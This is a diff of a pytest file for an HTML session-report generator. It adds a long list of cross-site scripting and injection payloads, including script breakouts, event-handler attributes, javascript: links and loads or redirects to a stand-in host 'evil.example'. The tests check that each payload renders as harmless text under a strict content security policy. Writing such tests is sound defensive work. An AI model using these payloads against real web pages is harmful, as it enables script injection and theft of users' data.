@@ -2,14 +2,18 @@
 
 from __future__ import annotations
 
+import base64
+import gzip
 import json
 import re
 
 import pytest
 
 import pingsessions_nb as ps
-from pingsessions_nb.reporting.embedding import as_json
-from pingsessions_nb.reporting.page import page_script, page_style
+from pingsessions_nb.reporting.embedding import packed_json
+from pingsessions_nb.reporting.page import page_script
+from pingsessions_nb.reporting.page_style import page_style
+from pingsessions_nb.wording import visible
 
 PAYLOADS = [
     "</script><script>window.hit=1</script>",
@@ -24,6 +28,47 @@ PAYLOADS = [
     "&lt;b&gt;&#60;b&#62;\\u003cb\\u003e",
     "a\u2028b\u2029c\u202ed\u0000e\ud800f\r\ng",
     "=HYPERLINK(1)",
+    # what plotly reads as markup, in hovers, names and legends
+    "<b>bold</b><i>i</i><sup>up</sup><sub>down</sub>",
+    "<a href='javascript:window.hit=1'>click</a>",
+    '<a href="https://evil.example/" target="_top">click</a>',
+    "<A HREF=//evil.example>x</A>",
+    "<span style='color:red;background:url(https://evil.example)'>x</span>",
+    "<br><br><br>three lines",
+    "<extra>aside</extra>",
+    "<em>em</em><u>u</u><s>s</s>",
+    "<br/onclick=window.hit=1>",
+    "&amp;amp; &nbsp;&#36; &mu;&copy",
+    "$\\alpha^2$",
+    "$$\\href{javascript:window.hit=1}{x}$$",
+    "%{customdata}%{x|%Y}%{meta.part}",
+    "%{hovertext:.2f}<extra>%{fullData.name}</extra>",
+    "{meta}[0](x)",
+    # what browsers and others read
+    "<img src=https://evil.example/a.png>",
+    "<svg><script href=https://evil.example/a.js /></svg>",
+    "<svg><a xlink:href='javascript:window.hit=1'><text y=9>x</text></a></svg>",
+    "<iframe srcdoc='<script>parent.hit=1</script>'>",
+    "<details open ontoggle=window.hit=1>",
+    "<input autofocus onfocus=window.hit=1>",
+    "<math><mtext><style><img src onerror=window.hit=1></style>",
+    "</textarea><script>window.hit=1</script>",
+    "<link rel=stylesheet href=https://evil.example/a.css>",
+    "<style>*{display:none}</style>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<base href=https://evil.example/>",
+    "<object data=https://evil.example/a.swf>",
+    "<form action=https://evil.example/><button>",
+    "@import url(https://evil.example/a.css);",
+    "url(https://evil.example/a.png)",
+    "`${window.hit=1}`",
+    "{{constructor.constructor('window.hit=1')()}}",
+    "__proto__",
+    "constructor",
+    "-1e999",
+    "NaN",
+    "\u2066isolated\u2069",
+    "zero\u200bwidth\ufeff",
     "\U0001f600" * 40,
     "W" * 4000,
 ]
@@ -67,29 +112,58 @@ def check(report) -> None:
     page = report.page
     assert page.evaluate("() => window.hit") is None
     assert page.locator("script").count() == 2
-    assert page.locator("img, iframe, object, embed, form, link, base").count() == 0
+    assert page.locator("img, iframe, object, embed, form, link, base, math").count() == 0
+    assert page.locator("svg a, a[href^=javascript], a[href*=evil]").count() == 0
     assert page.locator("[onload], [onerror], [onmouseover]").count() == 0
     assert page.evaluate("() => document.documentElement.scrollWidth") <= 1280
     assert not set("\u202e\u2028\x00") & set(page.inner_text("body"))
 
 
 def test_payloads_in_every_field_are_text(opened, tmp_path):
+    assert len(PAYLOADS) >= 50
     report = opened(ps.report(hostile(PAYLOADS), None, tmp_path / "hostile.html"))
     page = report.page
+    report.drawn("timeline")
     check(report)
     assert page.locator(".sessions tbody").count() == len(PAYLOADS)
-    assert f"{len(PAYLOADS)} sessions" in page.locator("#timeline .ps-count").inner_text()
-    for more in page.locator(".more").all():
-        more.click()
+    page.evaluate("() => document.querySelectorAll('.more').forEach((one) => one.click())")
     shown = page.locator(".sessions tbody").all_inner_texts()
     for payload, text in zip(PAYLOADS, shown, strict=True):
-        start = re.split(r"[\u2028\u202e\u0000\ud800\r]", payload)[0][:40].strip()
+        start = re.split(r"[\u200b\u2028\u202e\u2066\u0000\ud800\r]", payload)[0][:40].strip()
         assert text.count(start) >= 5
-    box = report.canvas("timeline").bounding_box()
-    for y in range(50, int(box["height"]), 12):
-        page.mouse.move(box["x"] + box["width"] / 2, box["y"] + y)
-    assert page.locator("#timeline .ps-tip").inner_text()
+    # As a person reads them: names beside the lanes and in the legend, and what a hover says.
+    for parts, least in ((".ytick text", len(PAYLOADS)), (".legendtext", 7)):
+        names = page.locator(f"#timeline {parts}").all_text_contents()
+        assert len(names) >= least
+        for name in names[:7] if parts == ".legendtext" else names:
+            begun = name.removesuffix("…").strip()
+            known = ["Unknown user", *map(visible, PAYLOADS)]
+            assert any(one.startswith(begun[:20]) for one in known), name
+    said = hovered(report)
+    assert len(said) > len(PAYLOADS) / 2
+    for text in ("<a href='javascript:window.hit=1'>click</a>", "%{customdata}", "&nbsp;&#36;"):
+        assert any(text in one for one in said), text
     check(report)
+
+
+def hovered(report) -> set[str]:
+    """What hovers say over every bar of the timeline."""
+    picture = report.drawn("timeline")
+    bars = picture.evaluate(
+        """(el) => [...el.querySelectorAll(".bars .point path")].map((bar) => {
+            const box = bar.getBoundingClientRect();
+            return [box.x + box.width / 2 + scrollX, box.y + box.height / 2 + scrollY];
+        })"""
+    )
+    said = set()
+    for x, y in bars:
+        report.page.evaluate("(y) => window.scrollTo({ top: y - 400, behavior: 'instant' })", y)
+        top = report.page.evaluate("() => scrollY")
+        report.page.mouse.move(x, y - top)
+        report.page.mouse.move(x + 2, y - top)
+        report.page.wait_for_timeout(80)
+        said |= set(picture.locator(".hoverlayer .hovertext").all_text_contents())
+    return said
 
 
 @pytest.mark.parametrize("payload", [PAYLOADS[0], PAYLOADS[-1]], ids=["script", "long"])
@@ -104,10 +178,12 @@ def test_hostile_names_stay_within_the_folder(opened, tmp_path):
     index = ps.report(history, None, tmp_path / "reports", progress=False)
     written = [path for path in tmp_path.rglob("*") if path.is_file()]
     assert {path.parent for path in written} == {index.parent}
-    assert len(written) == 9
+    assert len(written) == 10
     report = opened(index)
     links = report.page.locator(".index a").evaluate_all("all => all.map((a) => a.href)")
-    assert sorted(links) == sorted(path.as_uri() for path in written if path != index)
+    assert sorted(links) == sorted(
+        path.as_uri() for path in written if path not in {index, index.with_name("plotly.js")}
+    )
 
 
 def test_people_of_one_name_have_a_page_each_whatever_their_ids(tmp_path):
@@ -132,7 +208,7 @@ def test_what_may_run_is_named_by_its_hash(tmp_path):
     text = ps.report(hostile(["x"]), None, tmp_path / "x.html").read_text()
     policy = re.search(r'Content-Security-Policy" content="([^"]+)"', text).group(1)
     assert policy.startswith("default-src &#39;none&#39;; script-src &#39;sha256-")
-    assert "unsafe" not in policy
+    assert "unsafe" not in policy.replace("style-src-attr &#39;unsafe-inline&#39;", "")
     assert "http" not in policy
     assert not re.search(r"(src|href)=[\"']?(https?:)?//", text)
     assert "</script" not in page_script()
@@ -141,9 +217,8 @@ def test_what_may_run_is_named_by_its_hash(tmp_path):
     assert not re.search(r"@import|url\(", page_style())
 
 
-def test_json_within_html_is_nothing_but_json():
-    data = {"</script>": {"a": "<!--", "b": "&amp;", "c": "\u2028\u2029", "d": b"\x00\xff"}}
-    text = str(as_json(data))
-    assert not set(text) & set("<>&\u2028\u2029")
-    again = {"a": "<!--", "b": "&amp;", "c": "\u2028\u2029", "d": {"base64": "AP8="}}
-    assert json.loads(text) == {"</script>": again}
+def test_data_within_html_is_nothing_but_letters():
+    data = {"</script>": {"a": "<!--", "b": "&amp;", "c": "\u2028\u2029", "d": [1, None]}}
+    text = packed_json(data)
+    assert re.fullmatch("[A-Za-z0-9+/=]+", text)
+    assert json.loads(gzip.decompress(base64.b64decode(text))) == data
